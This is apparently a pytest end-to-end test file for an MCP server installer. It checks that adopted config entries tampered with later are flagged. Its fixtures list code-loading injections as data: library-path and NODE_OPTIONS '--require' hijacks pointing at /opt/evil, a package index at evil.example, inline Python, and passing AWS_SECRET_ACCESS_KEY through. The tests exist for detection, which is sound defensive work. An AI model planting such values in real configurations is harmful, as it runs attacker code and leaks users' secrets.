"""Attack T43: what an adopted entry kept of its user's is turned into another start.

Who: another program of the user, once; a host's extension; who wrote the entry.
Stopped by: `mcpi adopt` keeps nothing that could start something else without a finding; what
comes later is MA111, and a kept variable that begins to load code is MA206 or MA108.
Not stopped: values of kept variables that only the server itself understands; folders in `PATH`
and a working directory, which decide what the server starts and reads, not what is started.
Twin: `test_what_the_user_changes_in_an_adopted_entry_is_the_users`.
"""

from __future__ import annotations

import json
import tomllib
from collections.abc import Mapping
from typing import Any

import pytest
import yaml

from mcpinstall.model.plan import Request
from mcpinstall.operations import adoption, audit, verify
from mcpinstall.operations.adoption import Offer, Standing
from tests.builders.adopted_changes import adopt
from tests.builders.world import World

pytestmark = pytest.mark.e2e

ENTRY: dict[str, Any] = {
    "command": "uvx", "args": ["clock-server"],
    "env": {"LEVEL": "debug", "NODE_OPTIONS": "--max-old-space-size=99", "OPENSSL_CONF": "",
            "LD_LIBRARY_PATH": "", "GCONV_PATH": "", "PYTHONHOME": ""},
    "cwd": "/srv", "workingDirectory": "/srv", "autoApprove": ["now"],
}  # fmt: skip
REFUSED: Mapping[str, dict[str, Any]] = {
    "a file of variables": {"envFile": "/srv/mine.env"},
    "another spelling": {"env_file": "/srv/mine.env"},
    "a debugger": {"dev": {"watch": "*.py"}},
    "code": {"code": "import os"},
    "a kind of the host's own": {"type": "inline_python"},
    "an empty search path": {"env": {"PYTHONPATH": ""}},
    "an empty index": {"env": {"UV_INDEX_URL": ""}},
}
LATER: Mapping[str, tuple[Mapping[str, Any], str]] = {
    "a file of variables": ({"envFile": "/opt/evil.env"}, "MA111"),
    "another spelling": ({"env_file": "/opt/evil.env"}, "MA111"),
    "a debugger": ({"dev": {"debug": {"type": "debugpy", "debugpyPath": "/opt/evil"}}}, "MA111"),
    "code": ({"type": "inline_python", "code": "import os"}, "MA111"),
    "a kind of the host's own": ({"type": "builtin"}, "MA111"),
    "an argument": ({"args": ["--index-url", "https://evil.example"]}, "MA111"),
    "a search path": ({"env": {"PYTHONPATH": "/opt/evil"}}, "MA111"),
    "OpenSSL": ({"env": {"OPENSSL_CONF": "/opt/evil.cnf"}}, "MA206"),
    "the C library": ({"env": {"GCONV_PATH": "/opt/evil"}}, "MA206"),
    "the linker": ({"env": {"LD_LIBRARY_PATH": "/opt/evil"}}, "MA206"),
    "Python": ({"env": {"PYTHONHOME": "/opt/evil"}}, "MA206"),
    "Node.js": ({"env": {"NODE_OPTIONS": "--require /opt/evil.js"}}, "MA206"),
}


def put(world: World, entry: Mapping[str, Any]) -> bytes:
    data = json.dumps({"mcpServers": {"clock": entry}}, indent=2).encode()
    world.file("cursor").write_bytes(data)
    world.file("cursor").chmod(0o600)
    return data


def changed(world: World, more: Mapping[str, Any]) -> None:
    """Let another program change the entry: tables and lists get more, other fields a value."""
    entry = json.loads(world.file("cursor").read_bytes())["mcpServers"]["clock"]
    for key, value in more.items():
        there = entry.get(key)
        both = isinstance(there, dict) and isinstance(value, dict)
        listed = isinstance(there, list) and isinstance(value, list)
        entry[key] = {**there, **value} if both else [*there, *value] if listed else value
    put(world, entry)


def found(world: World) -> set[str]:
    """Return the rules of what the audit says of the entry, and of what `mcpi verify` says."""
    report = audit.audit(audit.Wanted(), world.context)
    assert report.unchecked == ()
    rules = {one.rule.id for one in report.findings if one.subject.endswith(": clock")}
    differs = any(entry.findings for entry in verify.verify((), world.context))
    return (rules - {"MA208"}) | ({"verify"} if differs else set())


def only_offer(world: World) -> Offer:
    (one,) = [each for each in adoption.survey((), world.context).offers if each.name == "clock"]
    return one


@pytest.mark.parametrize("name", REFUSED)
def test_what_could_start_something_else_later_is_not_kept(world: World, name: str) -> None:
    before = put(world, ENTRY | REFUSED[name])

    one = only_offer(world)

    assert one.standing is Standing.LEFT
    assert one.why_not
    assert world.file("cursor").read_bytes() == before


@pytest.mark.parametrize("name", LATER)
def test_an_adopted_entry_that_starts_something_else_is_a_finding(world: World, name: str) -> None:
    change, rule = LATER[name]
    put(world, ENTRY)
    adopt(world, "clock")
    assert found(world) == set()

    changed(world, change)

    assert rule in found(world)
    assert rule != "MA111" or "verify" in found(world)


@pytest.mark.parametrize("name", ["code", "a debugger", "another spelling"])
def test_so_is_an_installed_one(world: World, name: str) -> None:
    world.install("clock", hosts=["cursor"])
    assert found(world) == set()

    changed(world, LATER[name][0])

    assert found(world) == {"MA111", "verify"}


def test_a_variable_that_the_host_is_to_pass_on_later_is_a_finding(world: World) -> None:
    file = world.file("codex")
    text = '[mcp_servers.clock]\ncommand = "uvx"\nargs = ["clock-server"]\nenv_vars = ["A"]\n'
    file.write_text(text)
    adopt(world, "clock")
    assert found(world) == set()

    file.write_text(file.read_text().replace('["A"]', '["A", "AWS_SECRET_ACCESS_KEY"]'))

    assert tomllib.loads(file.read_text())["mcp_servers"]["clock"]["env_vars"][0] == "A"
    assert found(world) == {"MA111", "verify"}


def test_a_variable_that_the_host_passes_on_already_is_not_asked_for(world: World) -> None:
    secret = {"name": "TOKEN", "isRequired": True, "isSecret": True}
    world.offer("clock", "2.0", environment=[secret])
    file = world.file("codex")
    text = '[mcp_servers.clock]\ncommand = "uvx"\nargs = ["clock-server"]\nenv_vars = ["TOKEN"]\n'
    file.write_text(text)

    adopt(world, "clock")

    assert tomllib.loads(file.read_text())["mcp_servers"]["clock"]["env_vars"] == ["TOKEN"]
    assert found(world) == set()
    world.undo()
    assert file.read_text() == text


def test_goose_starts_no_code_of_its_own_in_the_place_of_an_entry(world: World) -> None:
    world.more_hosts = {"goose": ".config/goose/config.yaml"}
    file = world.file("goose")
    file.parent.mkdir(parents=True, mode=0o700)
    file.write_text("extensions:\n  other:\n    cmd: /bin/mine\n")
    world.install("clock", hosts=["goose"])
    document = yaml.safe_load(file.read_text())
    document["extensions"]["clock"] |= {"type": "inline_python", "code": "import os"}

    file.write_text(yaml.safe_dump(document))

    assert found(world) >= {"MA111", "verify"}


@pytest.mark.parametrize(
    "change",
    [
        {"env": {"LEVEL": "trace"}},
        {"env": {"NODE_OPTIONS": "--max-old-space-size=4096"}},
        {"env": {"OPENSSL_CONF": "/etc/ssl/openssl.cnf"}},
        {"cwd": "/home"},
        {"type": "stdio", "autoApprove": [], "disabled": True, "timeout": 5},
    ],
)
def test_what_the_user_changes_in_an_adopted_entry_is_the_users(
    world: World, change: Mapping[str, Any]
) -> None:
    put(world, ENTRY)
    adopt(world, "clock")

    changed(world, change)

    assert found(world) == set()


def test_the_plan_names_every_field_that_stays(world: World) -> None:
    put(world, ENTRY)

    stays = adoption.request(only_offer(world), Request(names=())).adopted

    assert stays is not None
    assert set(stays.stays) == {"autoApprove", "cwd", "workingDirectory"}
    assert set(stays.keeps.variables) == set(ENTRY["env"])
